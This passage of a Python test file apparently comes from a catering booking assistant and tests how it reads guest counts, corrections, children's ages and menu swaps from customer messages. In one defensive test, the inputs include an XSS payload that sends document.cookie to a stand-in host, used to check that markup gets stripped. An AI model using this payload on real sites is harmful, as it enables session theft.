            slots.SlotReading(slots.Slot("protein", 0, 0, 1, "shrimp"), "none", 0.9),
            slots.SlotReading(slots.Slot("protein", 5, 5, 6, "chicken"), "want", 0.99),
        ]
        placed = [(0, Request(intent="protein_swap", confidence=0.99))]
        [(_, request)] = reader_module._with_slots(placed, read)
        assert request.intent == "protein_swap"
        assert request.entities.proteins == ["chicken"]
        assert request.confidence <= reader_module.WORKED_OUT

    def test_a_protein_going_out_stays_out_when_its_replacement_is_corrected(self) -> None:
        """ "swap chicken for scallops, no wait, lobster": chicken still goes, lobster comes."""
        text = "swap chicken for scallops, no wait, lobster"
        lexicon, tokens, found = _menu_slots(text)
        roles = {"chicken": "remove", "scallops": "want", "lobster": "want"}
        read = [slots.SlotReading(s, roles[str(s.value)], 0.99) for s in found]
        placed = [(0, Request(intent="protein_swap", confidence=0.99))]
        [(_, request)] = reader_module._with_slots(placed, read, tokens.words, lexicon=lexicon)
        assert request.entities.removed_proteins == ["chicken"]
        assert request.entities.proteins == ["lobster"]


class TestCountsTakenBack:
    """A count the customer corrects ("14 adults, sorry typo, 16 adults") counts for nothing:
    the count after the words of correcting stands, and the change is read back."""

    @staticmethod
    def guests(text: str, roles: dict[int, str]) -> tuple[list[GuestChange], float]:
        """The guest changes `_with_slots` makes when each count is read in the given role
        (by its value; a count read with no role is "none")."""
        lexicon, tokens, found = _menu_slots(text)
        read = [
            slots.SlotReading(s, roles.get(int(s.value), "none"), 0.99, group)
            for s in found
            if s.kind == "count"
            for group in [s.group if s.group != "-" else "guests"]
        ]
        placed = [(0, Request(intent="headcount_change", confidence=0.99))]
        got = reader_module._with_slots(placed, read, tokens.words, lexicon=lexicon)
        changes = [r.entities.guests for _, r in got if r.entities.guests is not None]
        return changes, min(r.confidence for _, r in got)

    @pytest.mark.parametrize(
        ("text", "roles", "wanted"),
        [
            (
                "we will be 14 adults, sorry typo, 16 adults",
                {14: "total", 16: "total"},
                [GuestChange(total=16, group="adults")],
            ),
            # the count after the correction takes the role and group of the one it replaces
            (
                "make it 20 adults. actually scratch that, 22",
                {20: "total"},
                [GuestChange(total=22, group="adults")],
            ),
            # only the count right before the correction is taken back
            (
                "can we do 12 adults n 3 kids... no wait 4 kids",
                {12: "total", 3: "total", 4: "total"},
                [GuestChange(total=12, group="adults"), GuestChange(total=4, group="kids")],
            ),
        ],
    )
    def test_the_corrected_count_stands_and_is_read_back(
        self, text: str, roles: dict[int, str], wanted: list[GuestChange]
    ) -> None:
        changes, sure = self.guests(text, roles)
        assert changes == wanted
        assert sure <= reader_module.WORKED_OUT

    @pytest.mark.parametrize(
        ("text", "roles"),
        [
            # adding to what was said takes nothing back
            ("20 adults. oh wait, can we also add 2 kids", {20: "total", 2: "more"}),
            # another group is another count, not a correction
            ("18 adults, sorry i meant to say 3 kids too", {18: "total", 3: "total"}),
        ],
    )
    def test_a_count_added_to_takes_nothing_back(self, text: str, roles: dict[int, str]) -> None:
        changes, sure = self.guests(text, roles)
        assert len(changes) == 2
        assert sure > reader_module.WORKED_OUT


class TestPeopleNamed:
    """People named without a number are candidates for the headcount, from the lexicon."""

    @staticmethod
    def people(text: str) -> list[tuple[str, int, str]]:
        tokens = slots.Tokens.of(text)
        found = slots.find_slots(text, tokens, [], Lexicon.load("en"))
        return [
            (" ".join(tokens.words[s.token : s.end_token]), int(s.value), s.group)
            for s in found
            if s.kind == "person"
        ]

    @pytest.mark.parametrize(
        ("text", "named"),
        [
            ("grandma's coming after all", [("grandma's", 1, "adults")]),
            ("my mom's not coming anymore", [("mom's", 1, "adults")]),
            ("my nephew's in", [("nephew's", 1, "kids")]),
            ("my sister's kids are coming", []),  # whose kids: no person of its own
        ],
    )
    def test_a_person_said_with_is_contracted_is_named(
        self, text: str, named: list[tuple[str, int, str]]
    ) -> None:
        """Shown failing before: "grandma's coming after all" named nobody, and the turn asked
        "How many guests should we plan for?"."""
        assert self.people(text) == named

    def test_each_person_counts_in_their_group(self) -> None:
        assert self.people("my mom and my brother in law are joining") == [
            ("mom", 1, "adults"),
            ("brother in law", 1, "adults"),
        ]

    def test_a_pair_counts_two(self) -> None:
        assert self.people("my parents and the twins are out") == [
            ("parents", 2, "adults"),
            ("twins", 2, "kids"),
        ]

    def test_a_childs_age_puts_them_in_their_group(self) -> None:
        assert self.people("my nephew (4) and my niece, she's 9") == [
            ("nephew", 1, "toddlers"),
            ("niece", 1, "kids"),
        ]

    @pytest.mark.parametrize(
        ("text", "named"),
        [
            ("my sisters 4-year-old is coming too", [("4 - year - old", 1, "toddlers")]),
            (
                "adding a 6 yr old and a 9 year old",
                [("6 yr old", 1, "kids"), ("9 year old", 1, "kids")],
            ),
            ("her 3 yo is in", [("3 yo", 1, "toddlers")]),
            # an age of someone named, or said of them: no person of its own
            ("my 7 year old son is coming now", [("son", 1, "kids")]),
            ("4 year old twins", [("twins", 2, "kids")]),
            ("she's 4 years old", []),
        ],
    )
    def test_a_person_named_by_their_age_is_one_guest_of_that_age(
        self, text: str, named: list[tuple[str, int, str]]
    ) -> None:
        """Shown failing before: "adding my sisters 4 year old" was read as 4 more guests."""
        assert self.people(text) == named

    def test_a_number_counts_them_instead(self) -> None:
        assert self.people("my cousin and her 3 boys") == [("cousin", 1, "adults")]
        tokens = slots.Tokens.of("my cousin and her 3 boys")
        counts = [
            s for s in slots.find_slots("", tokens, [], Lexicon.load("en")) if s.kind == "count"
        ]
        assert [(s.value, s.group) for s in counts] == [(3, "kids")]

    @pytest.mark.parametrize(
        "text", ["adults: 12 kids: 4", "adults=12, kids = 4", "also adults 12 / kids 4 now"]
    )
    def test_a_group_written_as_a_label_names_the_count_after_it(self, text: str) -> None:
        tokens = slots.Tokens.of(text)
        counts = [
            s for s in slots.find_slots(text, tokens, [], Lexicon.load("en")) if s.kind == "count"
        ]
        assert [(s.value, s.group) for s in counts] == [(12, "adults"), (4, "kids")]

    def test_groups_written_before_their_counts_are_each_read(self) -> None:
        text = "adults 20 kids 6 toddlers 1"
        tokens = slots.Tokens.of(text)
        counts = [
            s for s in slots.find_slots(text, tokens, [], Lexicon.load("en")) if s.kind == "count"
        ]
        assert [(s.value, s.group) for s in counts] == [
            (20, "adults"),
            (6, "kids"),
            (1, "toddlers"),
        ]

    @pytest.mark.parametrize(
        ("text", "worked_out"),
        [
            ("add 2 adults", False),
            ("make it 12 adults and 4 kids", False),
            ("pls add 2 kids (8 & 11)", False),  # the ages agree with the group said
            ("2 more kiddos, ages 8 & 10", False),  # who they are, settled by their ages
            ("3 kids 2 adults and 1 baby 18 months", False),
            ("my brother is bringing his two boys", True),  # a person named, no number
            ("her 3 boys are coming", True),  # kids or grown sons: no age says
            ("my stepbrother's 3 kids, ages 1, 4 and 7", True),  # two are little ones
            ("2 girls (12 and 14)", True),  # the second is an adult
            ("add my 3 grandkids pls, they're 5, 7 and 13", True),
        ],
    )
    def test_counts_worked_out_from_people_or_ages_are_told_apart(
        self, text: str, worked_out: bool
    ) -> None:
        tokens = slots.Tokens.of(text)
        found = slots.find_slots(text, tokens, [], Lexicon.load("en"))
        assert slots.worked_out(tokens.words, found) is worked_out

    def test_a_plural_after_of_the_names_the_group(self) -> None:
        text = "3 of the guys bailed, two of my nephews too"
        tokens = slots.Tokens.of(text)
        counts = [
            s for s in slots.find_slots(text, tokens, [], Lexicon.load("en")) if s.kind == "count"
        ]
        assert [(s.value, s.group) for s in counts] == [(3, "adults"), (2, "kids")]

    def test_labels_give_people_what_the_counts_leave(self) -> None:
        text = "my cousin and her 3 boys are coming"
        tokens = slots.Tokens.of(text)
        found = slots.find_slots(text, tokens, [], Lexicon.load("en"))
        guests = [{"delta": 1, "group": "adults"}, {"delta": 3, "group": "kids"}]
        roles, left = slots.count_labels([s for s in found if s.kind == "count"], guests)
        assert roles == [("more", "kids")]
        assert slots.person_labels([s for s in found if s.kind == "person"], left) == ["more"]

    @pytest.mark.parametrize(
        ("text", "guests", "roles"),
        [
            # an age counts nobody, even while a labelled change is left for a person to carry
            ("adding my niece she's 12", [{"delta": 1, "group": "kids"}], [("none", "guests")]),
            ("my cousin and her baby (10 months)", [{"delta": 2}], [("none", "guests")]),
            # a number after a bare "'re" counts the party as often as it ages anyone
            ("we're 20 now, the Lees r coming", [{"total": 22}], [("?", "guests")]),
        ],
    )
    def test_ages_are_labelled_as_counting_nobody(
        self, text: str, guests: list[dict[str, object]], roles: list[tuple[str, str]]
    ) -> None:
        tokens = slots.Tokens.of(text)
        found = [s for s in slots.find_slots(text, tokens, [], None) if s.kind == "count"]
        said = slots.ages(tokens.words, counting=True)
        assert slots.count_labels(found, guests, said)[0] == roles

    @pytest.mark.parametrize(
        ("text", "said"),
        [
            ("3 kids all under 5", {4: "toddlers"}),  # under 5: 4 at most
            ("3 kids 5 and under", {2: "toddlers"}),
            ("2 kids under 12", {3: "kids"}),
            ("we'll be under 20 now", {}),  # past a child's age, a count
        ],
    )
    def test_an_age_limit_is_an_age(self, text: str, said: dict[int, str]) -> None:
        assert slots.ages(slots.Tokens.of(text).words, counting=True) == said

    @pytest.mark.parametrize(
        ("text", "said"),
        [
            ("adding 2 kids, they are 7 and 4", {6: "kids", 8: "toddlers"}),
            ("2 more, the kids are 7 and 9", {6: "kids", 8: "kids"}),
            ("my sisters 4-year-old is coming too", {2: "toddlers"}),
            ("a 4-year-old and two 8-year-olds", {1: "toddlers", 8: "kids"}),
            # "we are", "adults are": the party counted, not aged
            ("we are 20 now", {}),
            ("the adults are 14 and kids 3", {}),
        ],
    )
    def test_an_age_said_with_are_or_hyphens_is_an_age(
        self, text: str, said: dict[int, str]
    ) -> None:
        """Shown failing before: "they r 7 and 4" and "4-year-old" were read as no age, so
        "adding 2 kids, they r 7 and 4" added two kids and no toddler."""
        assert slots.ages(slots.Tokens.of(text).words, counting=True) == said

    @pytest.mark.parametrize(
        ("text", "changes"),
        [
            ("add 3 kids, all under 5", [GuestChange(delta=3, group="toddlers")]),
            ("2 more kids, both 7", [GuestChange(delta=2, group="kids")]),
            (
                "adding 2 kids, they r 7 and 4",
                [GuestChange(delta=1, group="kids"), GuestChange(delta=1, group="toddlers")],
            ),
            # a new total placed by its ages: the kids are all little ones
            (
                "20 adults and 5 kids all under 5",
                [GuestChange(total=20, group="adults"), GuestChange(total=5, group="toddlers")],
            ),
        ],
    )
    def test_one_age_for_them_all_puts_every_one_in_its_group(
        self, reader: Reader, text: str, changes: list[GuestChange]
    ) -> None:
        got = reader.understand(text, context(), VOCABULARY)
        assert [r.entities.guests for r in got.requests] == changes

    @pytest.mark.parametrize(
        ("text", "counts"),
        [
            ("adults 10 / kids 4 / toddlers 1", [10, 4, 1]),  # a list written with slashes
            ("on 10/4 we'll be 20", [20]),  # a date
            ("1/2 of us are 12 or under", [12]),  # a fraction
        ],
    )
    def test_a_slash_between_two_numbers_is_a_date_not_a_count(
        self, text: str, counts: list[int]
    ) -> None:
        tokens = slots.Tokens.of(text)
        found = [s for s in slots.find_slots(text, tokens, [], None) if s.kind == "count"]
        assert [s.value for s in found] == counts

    def test_a_lexicon_group_that_is_not_a_guest_group_is_named(self) -> None:
        with pytest.raises(ValueError, match=r"people\.one\.grownups is not a guest group"):
            normalise._people({"one": {"grownups": ["mom"]}}, "en")

    def test_count_and_person_roles_are_learned_only_where_they_are_read(self) -> None:
        """Counts and people are read only in a message that changes the headcount, so a
        count in a question ("how much for 20 people?") teaches their roles nothing."""
        lexicon = Lexicon.load("en")

        def example(text: str, guests: list[dict[str, object]], headcount: bool) -> tuple:
            tokens = slots.Tokens.of(text)
            at = text.index("chicken")
            chicken = ent.Mention(at, at + len("chicken"), "protein", "chicken")
            found = slots.find_slots(text, tokens, [chicken], lexicon)
            labelled = {"guests": guests, "proteins": ["chicken"] if headcount else []}
            return (tokens.words, found, [[] for _ in found], labelled, headcount, True)

        model = slots.train_slots(
            [
                example(
                    "add 3 adults and 2 kids, chicken",
                    [{"delta": 3, "group": "adults"}, {"delta": 2, "group": "kids"}],
                    True,
                ),
                example("my mom is coming, chicken ok", [{"delta": 1, "group": "adults"}], True),
                example(
                    "we are 14 now, 2 of them kids, chicken",
                    [{"total": 14, "group": "guests"}],
                    True,
                ),
                example("zzquote for 20 people w chicken and my aunt?", [], False),
            ]
        )
        assert model is not None
        assert not [f for f in model.count_role.vocabulary if "zzquote" in f]
        assert model.person_role is None or not [
            f for f in model.person_role.vocabulary if "zzquote" in f
        ]
        assert [f for f in model.menu_role.vocabulary if "zzquote" in f]  # menu words learn there

    def test_people_named_change_the_headcount(self, reader: Reader) -> None:
        got = reader.understand(
            "grandma and grandpa are flying in after all, so they're coming to the party",
            context(),
            VOCABULARY,
        )
        changes = [r.entities.guests for r in got.requests if r.entities.guests]
        assert [(c.delta, c.group) for c in changes] == [(2, "adults")]

    @pytest.mark.parametrize(
        ("text", "delta"),
        [("my bro cant make it anymore", -1), ("my bro n his wife r coming too", 2)],
    )
    def test_a_brother_said_short_is_a_person(self, reader: Reader, text: str, delta: int) -> None:
        """Shown failing before: "bro" was no person, and "my bro cant make it" changed
        nobody."""
        got = reader.understand(text, context(), VOCABULARY)
        changes = [r.entities.guests for r in got.requests if r.entities.guests]
        assert [(c.delta, c.group) for c in changes] == [(delta, "adults")]


class TestMarkup:
    """Markup pasted around a message is not the customer's words: it is taken out before
    anything reads the message."""

    @pytest.mark.parametrize(
        ("text", "plain"),
        [
            (
                "<img src=x onerror=\"fetch('https://e.example/'+document.cookie)\"> refund pls",
                "refund pls",
            ),
            ("&lt;b&gt;cancel&lt;/b&gt; it", "cancel it"),
            ("<b><i>2 more adults</i></b>", "2 more adults"),
            ("love u guys <3 see u sat", "love u guys <3 see u sat"),
            ("18 < 20 guests", "18 < 20 guests"),
        ],
    )
    def test_tags_and_entities_are_taken_out(self, text: str, plain: str) -> None:
        assert " ".join(normalise.strip_markup(text).split()) == plain

    @pytest.mark.parametrize(
        "text", ["I want a refund", "we need to cancel the party", "add 2 more adults pls"]
    )
    def test_a_message_in_markup_reads_as_its_words(self, reader: Reader, text: str) -> None:
        wrapped = f"<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\"> {text}"
        assert intents(reader.understand(wrapped, context(), VOCABULARY)) == intents(
            reader.understand(text, context(), VOCABULARY)
        )


class TestPeopleBringingTheirOwn:
    """A person named before "... bring her 3 kids" is the one bringing them: a hint the learned
    person reader weighs (in the corpus, the one bringing is usually counted already)."""

    @staticmethod
    def person_hints(text: str) -> list[list[str]]:
        lexicon = Lexicon.load("en")
        tokens = slots.Tokens.of(text)
        found = slots.find_slots(text, tokens, [], lexicon)
        by_rules = Understanding(tone="neutral", requests=[Request(intent="headcount_change")])
        hints = reader_module._slot_hints(text, tokens.words, found, by_rules, context(), lexicon)
        return [h for s, h in zip(found, hints, strict=True) if s.kind == "person"]

    @pytest.mark.parametrize(
        "text",
        [
            "my sister decided to bring her 3 kids after all",
            "my brother is bringing his two boys",
            "my aunt will bring her grandkids",
        ],
    )
    def test_the_one_bringing_is_marked(self, text: str) -> None:
        (own,) = self.person_hints(text)
        assert "person_brings_own" in own

    @pytest.mark.parametrize(
        "text", ["my sister is coming after all", "my sister will bring a salad", "my mom is out"]
    )
    def test_a_person_coming_or_bringing_nobody_is_not(self, text: str) -> None:
        (own,) = self.person_hints(text)
        assert "person_brings_own" not in own

    def test_the_one_bringing_her_kids_is_not_added(self, reader: Reader) -> None:
        got = reader.understand(
            "my sister decided to bring her 3 kids after all (7, 9 and 12)", context(), VOCABULARY
        )
        changes = [r.entities.guests for r in got.requests if r.entities.guests]
        assert [(c.delta, c.group) for c in changes] == [(3, "kids")]


def _menu_slots(text: str) -> tuple[Lexicon, slots.Tokens, list[slots.Slot]]:
    """The English lexicon, the text's tokens and its slots, menu words included."""
    lexicon = Lexicon.load("en")
    tokens = slots.Tokens.of(text)
    found = slots.find_slots(text, tokens, ent.matcher_for(VOCABULARY).find(text), lexicon)
    return lexicon, tokens, list(found)


class _Says(LearnedReader):
    """A model that reads every message (and clause) the same, whatever it says."""

    def __init__(
        self,
        intents: dict[str, float],
        safety: dict[str, float] | None = None,
        topics: dict[str, float] | None = None,
        tone: str = "neutral",
    ) -> None:
        self.slots = None
        self.tone = tone
        self.safety_weights = self.safety_bias = None
        self.probabilities = dict.fromkeys(LABELS, 0.0) | intents
        self.safety = safety or {}
        self.topics = topics or {}

    def read(self, items: object) -> list[Reading]:  # type: ignore[override]
        reading = Reading(self.probabilities, self.tone, 1.0, self.safety, self.topics)
        return [reading for _ in items]  # type: ignore[attr-defined]


def _says_faq() -> _Says:
    """A model that reads every message as a plain question."""
    return _Says({"faq": 0.99})


class TestCountsSaidTogether:
    """A message with an old and a new number: the reader sees how the two are joined, and the
    count it reads surest of a group is that group's change."""

    @staticmethod
    def hints(text: str) -> list[list[str]]:
        tokens = slots.Tokens.of(text)
        counts = [s for s in slots.find_slots(text, tokens, []) if s.kind == "count"]
        return [slots.beside_counts(tokens.words, counts, k) for k in range(len(counts))]

    def test_the_words_joining_two_counts_are_read(self) -> None:
        old, new = self.hints("meant 18 not 16")
        assert {"cnt_first", "next_gap=not", "next_bigger"} <= set(old)
        assert {"cnt_last", "prev_gap=not", "prev_smaller"} <= set(new)

    def test_counts_far_apart_are_not_a_pair(self) -> None:
        first, last = self.hints("add 2 adults please and thank you so much, the party is for 30")
        assert "next_far" in first and "prev_far" in last
        assert self.hints("we're 20 now") == [["cnt_only"]]

    def test_the_surest_count_of_a_group_wins(self) -> None:
        def count(at: int, value: int, role: str, sure: float) -> slots.SlotReading:
            slot = slots.Slot("count", at, at, at + 1, value, "guests")
            return slots.SlotReading(slot, role, sure, "guests", 0.99)

        old, new = count(0, 12, "total", 0.55), count(5, 16, "total", 0.93)
        changes = slots.guest_changes([old, new])
        assert [(c.total, sure) for _, c, sure in changes] == [(16, 0.93 * 0.99)]

    @pytest.mark.parametrize(
        ("named_old", "stored", "agree"),
        [
            (True, None, True),  # "one more adult, so 16 instead of 15"
            (False, {"adults": 15, "kids": 2}, True),  # "one more adult, so 16": the booking's 15
            (False, None, False),  # nothing to add up from: the surer reading stands alone
            (False, {"adults": 14}, False),  # 14 + 1 is not 16
        ],
    )
    def test_a_change_and_a_total_that_add_up_are_the_total_and_surer_together(
        self, named_old: bool, stored: dict[str, int] | None, agree: bool
    ) -> None:
        """Either reading leaves the same party, so the change is unsure only if both are
        wrong; the total is what is stored (docs/labelling.md labels the total)."""

        def count(at: int, value: int, role: str, sure: float) -> slots.SlotReading:
            slot = slots.Slot("count", at, at, at + 1, value, "adults")
            return slots.SlotReading(slot, role, sure, "adults", 1.0)

        read = [count(0, 1, "more", 0.89), count(8, 16, "total", 0.75)]
        if named_old:
            read.append(count(12, 15, "none", 1.0))
        changes = slots.guest_changes(read, stored=stored)
        got = [(c.total, c.delta, round(sure, 4)) for _, c, sure in changes]
        if agree:
            assert got == [(16, None, round(1 - 0.11 * 0.25, 4))]
        else:
            assert got == [(None, 1, 0.89)]

    @pytest.mark.parametrize(
        ("text", "role", "changes", "by_age"),
        [
            ("3 kids are coming too, they're 3 5 and 9", "more", {"toddlers": 2, "kids": 1}, True),
            ("2 more kids (5, 10)", "more", {"toddlers": 1, "kids": 1}, True),
            ("2 kids bailed, ages 13 and 15", "fewer", {"adults": -2}, True),
            ("3 kids are coming, ages 7 and 9", "more", {"kids": 3}, False),  # one age short
            ("3 kids are coming. the party is 9 to 5", "more", {"kids": 3}, False),  # no ages
        ],
    )
    def test_a_count_whose_ages_follow_counts_each_in_their_age_group(
        self, text: str, role: str, changes: dict[str, int], by_age: bool
    ) -> None:
        """Placed by their ages, the group the words were read as adds no doubt."""
        tokens = slots.Tokens.of(text)
        first = next(s for s in slots.find_slots(text, tokens, [], None) if s.kind == "count")
        read = [slots.SlotReading(first, role, 0.99, "kids", 0.8)]
        got = slots.guest_changes(read, tokens.words)
        assert {c.group: c.delta for _, c, _ in got} == changes
        assert {sure for _, _, sure in got} == {0.99 if by_age else 0.99 * 0.8}

    def test_people_named_in_a_group_only_ages_filled_count_beside_them(self) -> None:
        """Shown failing before: "my sister is coming with her husband and their 3 kids,
        they're like 4, 8 and 13" read one adult: the 13-year-old, not the two named."""
        text = "my sister is coming with her husband and their 3 kids, they're like 4, 8 and 13"
        tokens = slots.Tokens.of(text)
        found = slots.find_slots(text, tokens, [], Lexicon.load("en"))
        read = [
            slots.SlotReading(s, "more", 0.99, "kids" if s.kind == "count" else "adults", 0.9)
            for s in found
            if s.kind == "person" or s.value == 3
        ]
        got = slots.guest_changes(read, tokens.words)
        assert {c.group: c.delta for _, c, _ in got} == {"adults": 3, "toddlers": 1, "kids": 1}

    @pytest.mark.parametrize("text", ["they're like 4, 8 and 13", "theyre 2 5 and 9"])
    def test_a_list_of_ages_keeps_its_numbers(self, normaliser: Normaliser, text: str) -> None:
        """Shown failing before: "4, 8 and 13" read "for, 8 and 13" ("4" before a number is
        "for" in "put us down 4 28 guests")."""
        assert normaliser.normalise(text) == text.replace("theyre", "they're")

    def test_ages_fall_in_the_groups_the_business_prices(self) -> None:
        """The age groups come from the knowledge's pricing rule: where little ones eat free up
        to 3, a guest of 4 is a kid; with the seed's 5, a little one."""
        text = "2 more kids, ages 4 and 9"
        tokens = slots.Tokens.of(text)
        first = next(s for s in slots.find_slots(text, tokens, [], None) if s.kind == "count")
        read = [slots.SlotReading(first, "more", 0.99, "kids", 0.99)]
        seed = slots.guest_changes(read, tokens.words, VOCABULARY.ages)
        assert {c.group: c.delta for _, c, _ in seed} == {"toddlers": 1, "kids": 1}
        younger = AgeLimits.of(3, "4-12")
        got = slots.guest_changes(read, tokens.words, younger)
        assert {c.group: c.delta for _, c, _ in got} == {"kids": 2}
        named = "my nephew (4) is coming"
        person = slots.find_slots(named, slots.Tokens.of(named), [], Lexicon.load("en"), younger)
        assert [s.group for s in person if s.kind == "person"] == ["kids"]

    @pytest.mark.parametrize(
        ("toddlers", "ages", "limits"),
        [
            (5, "6-12", AgeLimits(5, 12)),
            (3, "4 to 14", AgeLimits(3, 14)),
            (5, "school age", AgeLimits(5, 12)),  # no number: the usual upper age
        ],
    )
    def test_the_age_groups_are_read_from_the_pricing_rule(
        self, toddlers: int, ages: str, limits: AgeLimits
    ) -> None:
        assert AgeLimits.of(toddlers, ages) == limits

    def test_a_seed_file_vocabulary_carries_its_age_groups(self) -> None:
        seed = read_seed()
        pricing = next(r for r in seed["business_rules"] if r["rule_type"] == "pricing")
        pricing["value"] |= {"toddler_max_age": 3, "child_age_range": "4-14"}
        assert Vocabulary.from_seed(seed).ages == AgeLimits(3, 14)

    def test_the_live_pricing_rule_sets_the_age_groups(self) -> None:
        charter = Charter(
            rules=rules_with(toddler_max_age=2, child_age_range="3-11"),
            policies=[],
            addons=seed_addons(),
            offers=[],
            today=datetime(2026, 6, 10).date(),
            built_at=datetime(2026, 6, 10),
        )
        assert Vocabulary.from_charter(charter).ages == AgeLimits(2, 11)

    @pytest.mark.parametrize(
        ("text", "way"),
        [
            ("3 more people bailed on us", ["way_after=leave"]),
            ("my parents are coming after all", ["way_after=join"]),
            ("my sister can't make it anymore", ["way_after=leave"]),  # a negated coming
            ("my aunt won't be joining", ["way_after=leave"]),
            ("we grew by 4 adults", ["way_before=join"]),
            ("nobody dropped out. 2 more kids", []),  # another sentence's words are not its own
            ("my uncle flaked but his 2 kids are still coming", ["way_after=join"]),
        ],
    )
    def test_the_words_saying_which_way_people_move_are_read(
        self, text: str, way: list[str]
    ) -> None:
        lexicon = Lexicon.load("en")
        tokens = slots.Tokens.of(text)
        found = [s for s in slots.find_slots(text, tokens, [], lexicon) if s.kind != "protein"]
        assert slots.ways(tokens.words, found[-1], lexicon) == way

    def test_a_phrase_of_moving_may_be_as_long_as_the_lexicon_writes_it(self) -> None:
        lexicon = replace(Lexicon.load("en"), joining=frozenset({("are", "on", "their", "way")}))
        text = "2 of my cousins are on their way"
        tokens = slots.Tokens.of(text)
        found = slots.find_slots(text, tokens, [], lexicon)
        assert slots.ways(tokens.words, found[0], lexicon) == ["way_after=join"]

    @pytest.mark.parametrize(
        ("role", "way", "odds"),
        [
            ("more", ["way_after=leave"], True),  # "3 more ppl bailed" read as 3 more
            ("fewer", ["way_after=join"], True),
            ("more", ["way_after=join"], False),
            ("more", ["way_after=leave", "way_before=join"], False),  # the words say both
            ("fewer", [], False),
        ],
    )
    def test_a_count_read_against_its_words_is_at_odds(
        self, role: str, way: list[str], odds: bool
    ) -> None:
        read = slots.SlotReading(slots.Slot("count", 0, 0, 1, 3, "guests"), role, 0.97)
        assert slots.at_odds([read], [way]) is odds

    @pytest.mark.parametrize(
        ("text", "turned_down"),
        [
            ("no filet. regular steak please", {"filet_mignon": ["refused_before"]}),
            (
                "lobster is way over our budget so just chicken and calamari",
                {"lobster": ["refused_after"]},
            ),
            ("calamari was a mistake lol, chicken and steak", {"calamari": ["refused_after"]}),
            (
                "honestly lobster is way over what we wanna spend so just chicken and calamari",
                {"lobster": ["refused_after"]},
            ),
            ("filet is out of our price range, steak pls", {"filet_mignon": ["refused_after"]}),
            ("chicken out, steak in", {"chicken": ["refused_after"]}),  # not the steak
            ("steak and shrimp, not chicken", {"chicken": ["refused_before"]}),
            ("steak and chicken please", {}),
            # a refusal carries along a list joined by "/" or "or", never by a comma or "and"
            (
                "allergic, so no shrimp/scallops/lobster for them",
                {k: ["refused_before"] for k in ("shrimp", "scallops", "lobster")},
            ),
            ("no shrimp or scallops", {k: ["refused_before"] for k in ("shrimp", "scallops")}),
            ("no shrimp, chicken and steak", {"shrimp": ["refused_before"]}),
            ("chicken/steak please", {}),
        ],
    )
    def test_the_words_turning_a_menu_item_down_are_read(
        self, text: str, turned_down: dict[str, list[str]]
    ) -> None:
        lexicon, tokens, found = _menu_slots(text)
        got = {s.value: slots.refused(tokens.words, s, found, lexicon) for s in found}
        assert {k: v for k, v in got.items() if v} == turned_down

    @pytest.mark.parametrize(
        ("text", "odds"),
        [("filet is over our budget, steak and tofu", True), ("filet and tofu please", False)],
    )
    def test_a_menu_item_read_as_wanted_though_turned_down_is_at_odds(
        self, text: str, odds: bool
    ) -> None:
        lexicon, tokens, found = _menu_slots(text)
        filet = slots.SlotReading(found[0], "want", 0.95)
        assert slots.menu_at_odds([filet], tokens.words, found, lexicon) is odds
        gone = replace(filet, role="remove")
        assert not slots.menu_at_odds([gone], tokens.words, found, lexicon)

    @pytest.mark.parametrize(
        ("text", "odds"),
        [
            ("salmon for steak pls", True),
            ("shrimp instead of calamari", True),
            ("tofu -> salmon", True),
            ("salmon and steak pls", False),
            ("salmon, steak for the kids", False),  # not side by side with only the trade
        ],
    )
    def test_two_items_traded_for_each_other_both_read_as_wanted_are_at_odds(
        self, text: str, odds: bool
    ) -> None:
        """ "salmon 4 steak pls" read as wanting both would add a protein nobody asked for."""
        lexicon, tokens, found = _menu_slots(text)
        both = [slots.SlotReading(s, "want", 0.99) for s in found if s.kind == "protein"]
        assert len(both) == 2
        assert slots.menu_at_odds(both, tokens.words, found, lexicon) is odds
        one_goes = [both[0], replace(both[1], role="remove")]
        assert not slots.menu_at_odds(one_goes, tokens.words, found, lexicon)

    @pytest.mark.parametrize(
        ("text", "shrimp", "odds"),
        [
            ("we want the steak and the shrimp", "none", True),  # named, not turned down
            ("we want the steak and the shrimp", "want", False),
            ("steak please, no shrimp", "none", False),  # turned down: rightly not wanted
        ],
    )
    def test_a_protein_named_beside_wanted_ones_but_read_as_nothing_is_at_odds(
        self, text: str, shrimp: str, odds: bool
    ) -> None:
        lexicon, tokens, found = _menu_slots(text)
        roles = {"steak": "want", "shrimp": shrimp}
        read = [slots.SlotReading(s, roles[s.value], 0.9) for s in found if s.value in roles]
        assert slots.menu_at_odds(read, tokens.words, found, lexicon) is odds

    def test_two_changes_to_one_group_are_at_odds(self) -> None:
        total = slots.SlotReading(slots.Slot("count", 0, 0, 1, 9, "adults"), "total", 0.9, "adults")
        fewer = slots.SlotReading(slots.Slot("count", 9, 4, 5, 2, "adults"), "fewer", 0.9, "adults")
        assert slots.at_odds([total, fewer], [[], []])
        kids = replace(fewer, group="kids")
        assert not slots.at_odds([total, kids], [[], []])

    @pytest.mark.parametrize(("old", "odds"), [(15, False), (14, True)])
    def test_a_change_and_a_total_that_add_up_are_not_at_odds(self, old: int, odds: bool) -> None:
        """ "one more adult, so 16 instead of 15" says one thing twice; "… instead of 14" does
        not add up, and is asked about."""
        more = slots.SlotReading(slots.Slot("count", 0, 0, 1, 1, "adults"), "more", 0.99, "adults")
        total = slots.SlotReading(
            slots.Slot("count", 9, 8, 9, 16, "adults"), "total", 0.5, "adults"
        )
        was = slots.SlotReading(slots.Slot("count", 20, 11, 12, old, "guests"), "none", 1.0)
        assert slots.at_odds([more, total, was], [[], [], []]) is odds

    @pytest.mark.parametrize(
        ("stored", "odds"),
        [
            ({"adults": 15, "kids": 2}, False),  # 15 - 2 = 13: one thing said twice
            ({"adults": 16, "kids": 2}, True),
            (None, True),  # no booking: nothing to add up from
        ],
    )
    def test_a_change_and_a_total_that_add_up_from_the_booking_are_not_at_odds(
        self, stored: dict[str, int] | None, odds: bool
    ) -> None:
        """ "two can't make it, so we're down to thirteen adults" against the booking's count."""
        fewer = slots.SlotReading(slots.Slot("count", 9, 2, 3, 2, "adults"), "fewer", 0.9, "adults")
        total = slots.SlotReading(
            slots.Slot("count", 60, 14, 15, 13, "adults"), "total", 0.9, "adults"
        )
        assert slots.at_odds([fewer, total], [[], []], stored) is odds

    def test_guests_of_no_group_add_up_from_the_whole_party(self) -> None:
        fewer = slots.SlotReading(slots.Slot("count", 0, 0, 1, 2, "guests"), "fewer", 0.9, "guests")
        total = slots.SlotReading(
            slots.Slot("count", 20, 5, 6, 15, "guests"), "total", 0.9, "guests"
        )
